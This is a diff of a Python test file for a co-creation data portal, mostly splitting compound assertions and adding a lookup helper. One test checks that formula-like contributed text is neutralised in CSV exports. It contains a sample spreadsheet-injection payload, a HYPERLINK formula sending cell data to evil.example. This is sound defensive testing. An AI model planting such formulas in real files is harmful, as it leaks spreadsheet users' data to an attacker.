@@ -10,7 +10,7 @@ from bs4 import BeautifulSoup
 
 from cocreate.portal.datapackage import TABLES
 from cocreate.standard.vocabulary import CATEGORIES
-from helpers import PROJECTS
+from helpers import PROJECTS, one
 
 SLUGS = sorted(p.name for p in PROJECTS.iterdir() if (p / "project.yml").exists())
 
@@ -38,7 +38,8 @@ def test_tables_match_the_projects(demo_site: Path) -> None:
         total_stakeholders += len(data["stakeholders"])
         total_entries += len(data["timeline"])
         row = next(p for p in projects if p["slug"] == slug)
-        assert row["phase"] == data["phase"] and row["title_en"] == data["title"]["en"]
+        assert row["phase"] == data["phase"]
+        assert row["title_en"] == data["title"]["en"]
     assert len(rows(demo_site, "stakeholders")) == total_stakeholders
     assert len(rows(demo_site, "timeline")) == total_entries
     raw = (demo_site / "data" / "projects.json").read_text("utf-8")
@@ -55,7 +56,7 @@ def test_every_field_is_documented_on_the_data_page(demo_site: Path) -> None:
     for resource in package["resources"]:
         if "schema" not in resource:
             continue
-        section = page.select_one(f"#table-{resource['name']}")
+        section = one(page, f"#table-{resource['name']}")
         documented = [td.text for td in section.select("tbody tr td:first-child code")]
         assert documented == [f["name"] for f in resource["schema"]["fields"]]
         assert all(f["description"] for f in resource["schema"]["fields"])
@@ -64,7 +65,8 @@ def test_every_field_is_documented_on_the_data_page(demo_site: Path) -> None:
 
 def test_no_personal_contact_data_in_the_package(demo_site: Path) -> None:
     text = "".join(p.read_text("utf-8") for p in (demo_site / "data").glob("*.*") if p.suffix in (".csv", ".json"))
-    assert "@example" not in text and "t@example.invalid" not in text
+    assert "@example" not in text
+    assert "t@example.invalid" not in text
 
 
 def test_the_codebook_says_how_formulas_are_published(demo_site: Path, demo_site_en: Path) -> None:
@@ -73,7 +75,7 @@ def test_the_codebook_says_how_formulas_are_published(demo_site: Path, demo_site
     for site, language in ((demo_site, "id"), (demo_site_en, "en")):
         note = Translator(language)("data.formulas")
         page = BeautifulSoup((site / "data" / "index.html").read_text("utf-8"), "html.parser")
-        assert page.select_one("#formulas").text == note
+        assert one(page, "#formulas").text == note
         package = json.loads((site / "data" / "datapackage.json").read_text("utf-8"))
         assert package["description"].endswith(note)
         assert all(resource["description"].endswith(note) for resource in package["resources"]
@@ -118,11 +120,13 @@ def test_contributed_texts_that_begin_like_formulas_are_neutralised(tmp_path: Pa
     (tmp_path / "src" / "bank-sampah" / "project.yml").write_text(text, "utf-8")
     site = build(make_portal(tmp_path / "portal", tmp_path / "src"))
     stakeholders = rows(site, "stakeholders")
-    assert stakeholders[0]["name"] == f"'{hostile}" and stakeholders[0]["contributes_id"] == "'@SUM(1)"
+    assert stakeholders[0]["name"] == f"'{hostile}"
+    assert stakeholders[0]["contributes_id"] == "'@SUM(1)"
     assert rows(site, "projects")[0]["title_id"] == "'-5 derajat; =1+2"
     for table in TABLES:
         for line in (site / "data" / f"{table.name}.csv").read_text("utf-8").splitlines():
-            assert line.startswith('"') and line.endswith('"'), line  # every cell quoted
+            assert line.startswith('"'), line
+            assert line.endswith('"'), line  # every cell quoted
         for row in rows(site, table.name):
             assert not any(value.startswith(FORMULA_START) for value in row.values()), row
     assert '"\'=HYPERLINK(""https://evil.example/?""&A1,""klik"")"' in (site / "data" / "stakeholders.csv").read_text("utf-8")
@@ -148,4 +152,5 @@ def test_calls_and_principles_are_open_data_too(demo_site: Path) -> None:
     principles = rows(demo_site, "principles")
     assert [(p["project"], p["principle"]) for p in principles] == [
         (s, p["principle"]) for s in SLUGS for p in files[s].get("principles", [])]
-    assert any(p["evidence"] for p in principles) and all(p["practice_id"] for p in principles)
+    assert any(p["evidence"] for p in principles)
+    assert all(p["practice_id"] for p in principles)
